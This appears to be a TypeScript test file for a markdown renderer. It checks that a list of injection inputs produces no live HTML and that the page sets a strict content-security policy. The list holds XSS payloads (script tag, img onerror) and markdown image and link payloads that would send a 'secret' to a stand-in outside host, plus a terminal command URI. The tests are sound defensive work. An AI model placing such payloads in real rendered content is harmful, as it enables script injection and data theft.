import assert from "node:assert/strict";
import { test } from "node:test";
import { render } from "../src/markdown.ts";
import { page } from "../src/page/html.ts";

test("what is shown is formatted, also in the middle of a block of code", () => {
  assert.match(
    render("**Adds** `a`\n\n```python\nreturn a"),
    /<strong>Adds<\/strong> <code>a<\/code>[\s\S]*<pre><code/,
  );
});

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://elsewhere.example/?code=secret)",
  "![x][r]\n\n[r]: https://elsewhere.example/?code=secret",
  "[click](https://elsewhere.example/?code=secret)",
  "[click](command:workbench.action.terminal.new)",
  "<https://elsewhere.example/?code=secret>",
  "https://elsewhere.example/?code=secret",
];

for (const attack of attacks) {
  test(`nothing runs, is fetched or can be followed: ${attack.slice(0, 40)}`, () => {
    assert.doesNotMatch(render(attack), /<(script|img|a|iframe|form|link)\b/i);
  });
}

test("the page may load its own style and script, and nothing else", () => {
  const html = page({ script: "s.js", style: "s.css", nonce: "abc" });
  const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
  assert.equal(policy, "default-src 'none'; style-src 'nonce-abc'; script-src 'nonce-abc'");
});
